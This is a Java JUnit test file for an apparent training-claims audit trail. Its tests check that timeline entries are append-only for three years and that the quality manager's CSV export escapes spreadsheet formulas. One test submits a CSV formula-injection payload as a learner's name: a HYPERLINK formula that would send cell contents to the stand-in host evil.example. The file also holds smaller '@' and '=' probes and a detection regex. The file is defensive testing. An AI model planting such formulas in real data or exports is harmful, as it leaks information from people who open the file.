package org.qaflow.audit;

import org.junit.jupiter.api.Test;
import org.qaflow.support.JourneyTestBase;
import org.springframework.dao.DataAccessException;

import java.sql.Timestamp;
import java.time.LocalDateTime;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** The claim timeline is the audit trail: nobody edits it, it outlives completion by three years, QMs export it. */
class AuditTrailTest extends JourneyTestBase {

    @Test
    void noTimelineEntryCanBeChangedOrDeletedUntilThreeYearsAfterTheLearnerCompleted() {
        long claimId = registered("provider", "610/3751/5", "assessor");
        List<Map<String, Object>> before = jdbc.queryForList("select * from claim_event where claim_id = ? order by id",
                claimId);
        assertThat(before).isNotEmpty();

        assertThatThrownBy(() -> jdbc.update("update claim_event set actor = 'someone else' where claim_id = ?", claimId))
                .isInstanceOf(DataAccessException.class).rootCause().hasMessageContaining("append-only");
        assertThatThrownBy(() -> jdbc.update("delete from claim_event where claim_id = ?", claimId))
                .isInstanceOf(DataAccessException.class).rootCause().hasMessageContaining("append-only");
        // Completed, but only two years ago: still kept.
        jdbc.update("update claim set certificate_issued_at = ? where id = ?",
                Timestamp.valueOf(LocalDateTime.now().minusYears(2)), claimId);
        assertThatThrownBy(() -> jdbc.update("delete from claim_event where claim_id = ?", claimId))
                .isInstanceOf(DataAccessException.class).rootCause().hasMessageContaining("append-only");
        assertThat(jdbc.queryForList("select * from claim_event where claim_id = ? order by id", claimId))
                .isEqualTo(before);

        // Completed more than three years ago: the retention period is over and the entries may be purged.
        jdbc.update("update claim set certificate_issued_at = ? where id = ?",
                Timestamp.valueOf(LocalDateTime.now().minusYears(3).minusDays(1)), claimId);
        assertThat(jdbc.update("delete from claim_event where claim_id = ?", claimId)).isEqualTo(before.size());
        assertThatThrownBy(() -> jdbc.update("update claim_event set actor = 'x'"))
                .as("other claims' entries stay untouchable").rootCause().hasMessageContaining("append-only");
    }

    @Test
    void theQualityManagerExportsTheTrailAsCsvAndFormulasTypedAsNamesStayText() {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("firstName", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")");
        body.put("lastName", "@SUM(1+1)");
        body.put("dateOfBirth", "1990-03-03");
        body.put("uln", newUln());
        body.put("qualification", "610/3751/5");
        body.put("assessor", "assessor");
        Response registered = post("provider", "/api/claims", body);
        assertThat(registered.status()).as(registered.raw()).isEqualTo(201);
        long claimId = registered.body().get("id").asLong();
        assertThat(registered.body().get("learner").asText()).as("stored and shown verbatim")
                .isEqualTo("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\") @SUM(1+1)");

        Response csv = get("qm", "/api/audit/claim-events.csv");
        assertThat(csv.status()).as(csv.raw()).isEqualTo(200);
        List<String> lines = csv.raw().lines().toList();
        assertThat(lines.get(0)).startsWith("\"event\",\"occurred_at\",\"claim\"");
        String registeredLine = lines.stream().filter(l -> l.contains(",\"" + claimId + "\",")).findFirst()
                .orElseThrow(() -> new AssertionError("no line for claim " + claimId + " in\n" + csv.raw()));
        assertThat(registeredLine).contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click me\"\") @SUM(1+1)\"");
        assertThat(lines).as("no cell a spreadsheet would run").noneMatch(l -> l.matches("(^|.*,)\"[=+\\-@\\t].*"));

        assertThat(get("provider", "/api/audit/claim-events.csv").status()).isEqualTo(403);
        assertThat(get("eqa", "/api/audit/claim-events.csv").status()).isEqualTo(403);
    }

    @Test
    void cellsThatASpreadsheetWouldEvaluateAreQuotedAsText() {
        assertThat(CsvCells.cell("=1+1")).isEqualTo("\"'=1+1\"");
        assertThat(CsvCells.cell("+44 20")).isEqualTo("\"'+44 20\"");
        assertThat(CsvCells.cell("-5")).isEqualTo("\"'-5\"");
        assertThat(CsvCells.cell("@cmd")).isEqualTo("\"'@cmd\"");
        assertThat(CsvCells.cell("\tx")).isEqualTo("\"'\tx\"");
        assertThat(CsvCells.cell("\rx")).isEqualTo("\"'\rx\"");
        assertThat(CsvCells.cell("Ivy \"Q\" Quinn")).isEqualTo("\"Ivy \"\"Q\"\" Quinn\"");
        assertThat(CsvCells.cell(null)).isEmpty();
    }
}
